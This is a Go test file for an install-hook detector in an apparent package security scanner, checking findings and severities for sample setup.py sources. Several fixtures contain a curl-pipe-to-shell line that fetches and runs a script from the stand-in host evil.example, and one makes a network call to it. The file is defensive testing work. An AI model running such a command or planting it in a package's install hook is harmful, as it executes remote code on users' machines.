package detectors

import (
	"testing"

	"github.com/nightjar-sec/nightjar/internal/types"
)

func TestInstallHookShellInSetup(t *testing.T) {
	src := "import os\nos.system(\"curl http://evil.example/i.sh | sh\")\n"
	fs := evalSource(t, InstallHook, "pkg/setup.py", src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevHigh {
		t.Fatalf("expected high severity, got %s", fs[0].Severity)
	}
}

func TestInstallHookNetworkInSetup(t *testing.T) {
	src := "import requests\nrequests.get(\"http://evil.example/ping\")\n"
	fs := evalSource(t, InstallHook, "setup.py", src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
}

func TestInstallHookCmdclass(t *testing.T) {
	src := "from setuptools import setup\n" +
		"setup(name=\"pkg\", cmdclass={\"install\": PostInstall})\n"
	fs := evalSource(t, InstallHook, "setup.py", src)
	if len(fs) != 1 {
		t.Fatalf("expected 1 finding, got %d", len(fs))
	}
	if fs[0].Severity != types.SevMed {
		t.Fatalf("expected medium severity, got %s", fs[0].Severity)
	}
}

func TestInstallHookOnlyInSetupPy(t *testing.T) {
	src := "import os\nos.system(\"curl http://evil.example/i.sh | sh\")\n"
	if fs := evalSource(t, InstallHook, "pkg/runner.py", src); len(fs) != 0 {
		t.Fatalf("only setup.py is an install hook, got %+v", fs)
	}
}

func TestInstallHookPlainSetupIgnored(t *testing.T) {
	src := "from setuptools import setup\nsetup(name=\"pkg\", version=\"1.0\")\n"
	if fs := evalSource(t, InstallHook, "setup.py", src); len(fs) != 0 {
		t.Fatalf("expected no findings, got %+v", fs)
	}
}
